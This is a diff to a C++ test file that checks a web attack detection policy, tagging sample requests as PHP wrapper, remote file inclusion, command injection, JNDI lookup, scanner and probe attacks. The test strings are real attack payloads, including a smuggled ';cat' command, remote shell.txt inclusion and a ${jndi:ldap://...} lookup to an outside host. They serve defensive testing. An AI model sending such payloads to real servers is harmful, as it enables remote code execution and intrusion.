@@ -295,7 +295,9 @@ TEST_CASE("policies/web.json: attacks from every set match, ordinary requests do
     CHECK(set_hit("GET /page?file=php://filter/resource=index HTTP/1.1\r\n") == "php");
     CHECK(set_hit("GET /page?inc=http://203.0.113.9/shell.txt? HTTP/1.1\r\n") == "rfi");
     CHECK(set_hit("GET /go?u=http:/%5C/%5Cevil.example/x HTTP/1.1\r\n") == "rfi");
-    CHECK(set_hit("GET /ping?host=127.0.0.1%3Bcat+/etc/hosts HTTP/1.1\r\n") == "rce");
+    // (Not ";cat /etc/hosts": file_access matches it too, and which set a request that two
+    // sets match is reported under depends on how the sets are packed into tables.)
+    CHECK(set_hit("GET /ping?host=127.0.0.1%3Bcat+/tmp/notes.txt HTTP/1.1\r\n") == "rce");
     CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n") == "java");
     CHECK(set_hit("GET / HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable\r\n\r\n") == "scanners");
     CHECK(set_hit("GET /index.php.bak HTTP/1.1\r\n") == "probes");
